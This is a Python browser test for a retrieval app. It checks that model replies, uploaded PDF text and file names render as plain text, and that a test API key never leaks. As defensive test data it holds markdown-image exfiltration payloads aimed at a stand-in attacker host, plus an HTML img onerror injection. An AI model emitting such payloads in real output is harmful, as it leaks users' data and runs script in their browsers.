"""What models, documents and file names say is text on the page, and never makes the browser speak to a stranger."""

from pathlib import Path
from typing import Any

import pytest

from selfrag.bench.openai_server import OpenAIServer, Request
from selfrag.samples import sample_files
from tests.browser.acts import answered, ask, button, card, says, settled
from tests.browser.conftest import ROOT
from tests.needs import imported

imported("reportlab")
from reportlab.pdfgen.canvas import Canvas

pytestmark = pytest.mark.browser

IMAGE = "![x](https://attacker.invalid/p.png?q=SECRET)"
REFERENCE = "![y][z]"
HTML = "<img src=https://attacker.invalid/q.png onerror=alert(1)>"
PRICES = "from $12 to $19, ~20~25, {question} {0}"
HOSTILE = f"The fee {IMAGE} {REFERENCE} {HTML} {PRICES}."


def hostile_pdf(path: Path) -> None:
    canvas = Canvas(str(path))
    for number, line in enumerate([f"The corkage fee {IMAGE}", REFERENCE, HTML, f"is {PRICES}."]):
        canvas.drawString(40, 780 - 20 * number, line)
    canvas.save()


def echo(request: Request) -> Any:
    return f"{HOSTILE} [1]\n\n[z]: https://attacker.invalid/r.png" if request.kind == "write" else None


@pytest.mark.slow
def test_model_document_and_name_are_shown_as_text(page: Any, serve: Any, tmp_path: Path) -> None:
    name = "$5 <b>x ![n](https:attacker.invalid) :red[n].pdf"
    hostile_pdf(tmp_path / name)
    with OpenAIServer(echo) as model:
        server = serve(
            ROOT / "app.py",
            OPENAI_API_KEY="sk-test-MARKER",
            OPENAI_BASE_URL=model.url,
            SELFRAG_EMBEDDING_MODEL="fake",
        )
        page.goto(server.url)
        settled(page)
        page.get_by_test_id("stFileUploaderDropzoneInput").set_input_files(
            [str(tmp_path / name), str(sample_files()[-1])]
        )
        page.get_by_text("✓").nth(1).wait_for()
        ask(page, "What is the corkage fee?")
        says(card(page), IMAGE, REFERENCE, HTML, "from $12 to $19, ~20~25, {question} {0}", name)
        button(page, "Write the answer from").click()
        answered(page)
        says(page.get_by_test_id("stChatMessage").last, IMAGE, REFERENCE, HTML, PRICES)
        assert page.locator("img[src*=attacker]").count() == 0
        assert page.locator("a[href*=attacker]").count() == 0
        assert page.locator(".katex").count() == 0
        assert "sk-test-MARKER" not in page.content()
        assert "sk-test-MARKER" not in server.log.read_text()
